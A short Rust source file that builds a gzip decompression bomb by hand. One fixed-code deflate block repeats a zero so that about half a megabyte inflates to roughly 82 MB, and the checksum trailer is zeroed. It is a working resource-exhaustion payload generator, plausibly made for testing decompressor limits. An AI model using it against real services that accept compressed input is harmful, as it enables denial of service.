//! A compressed bomb, made by hand: half a megabyte that becomes 82.

/// Zeros without number, as gzip: one block with fixed codes, a literal zero, then copies of it.
pub fn gzip_bomb() -> Vec<u8> {
    const COPIES: usize = 320_000;
    let mut bits = Bits::default();
    // The last block, fixed codes (0b01, its low bit first); the literal 0.
    bits.push("110");
    bits.push("00110000");
    // Length 258 and distance 1.
    (0..COPIES).for_each(|_| bits.push("1100010100000"));
    bits.push("0000000");
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    bytes.extend(bits.bytes);
    // The sum and the length, which nobody lives to see.
    bytes.extend([0; 8]);
    bytes
}

#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: usize,
}

impl Bits {
    fn push(&mut self, bits: &str) {
        for bit in bits.bytes() {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().unwrap() |= (bit - b'0') << (self.used % 8);
            self.used += 1;
        }
    }
}
